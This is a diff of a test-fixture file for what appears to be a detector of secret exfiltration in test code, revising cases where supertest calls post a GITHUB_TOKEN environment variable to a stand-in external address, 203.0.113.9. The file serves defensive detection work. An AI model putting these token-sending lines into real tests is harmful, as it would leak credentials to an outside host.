@@ -37,12 +37,13 @@ const LAST_RUNNER_IS_REQUIRE: FindingRow[] = closed([
 
 /**
  * R66-4 (High): supertest's `send` was read as no sending call unless the app's name was given a value other than a
- * call's result in the text: an app never given one in the patch (a parameter, a name from the unchanged file), a second
- * `request(x)` on the line, or a call returning a URL (`new URL('https://…')`) sent the token anywhere.
+ * call's result in the text: an app given as a parameter (`(target) => request(target)…`, `it.each([url])(…, (app) =>`)
+ * or a call returning a URL (`new URL('https://…')`) sent the token anywhere. A name shown only in `request(name)` still
+ * counts as the unchanged file's app (review 65's false refusal stays fixed).
  */
 const SUPERTEST_APP_NOT_SHOWN: FindingRow[] = closed([
-  ['test/a.test.js', "await request(target).post('/c').send({ token: process.env.GITHUB_TOKEN });"],
-  ['test/a.test.js', "const app = express();\nawait request(app).post('/c').send({}), request(x).post('/c').send({ t: process.env.GITHUB_TOKEN });"],
+  ['test/a.test.js', "const send = (target) => request(target).post('/c').send({ token: process.env.GITHUB_TOKEN });\nawait send('https://203.0.113.9');"],
+  ['test/a.test.js', "it.each(['https://203.0.113.9'])('posts', async (app) => {\n  await request(app).post('/c').send({ token: process.env.GITHUB_TOKEN });\n});"],
   ['test/a.test.js', "const app = new URL('https://203.0.113.9');\nawait request(app).post('/c').send({ token: process.env.GITHUB_TOKEN });"],
   ['test/a.test.js', "const app = String('https://203.0.113.9');\nawait request(app).post('/c').send({ token: process.env.GITHUB_TOKEN });"],
 ]);
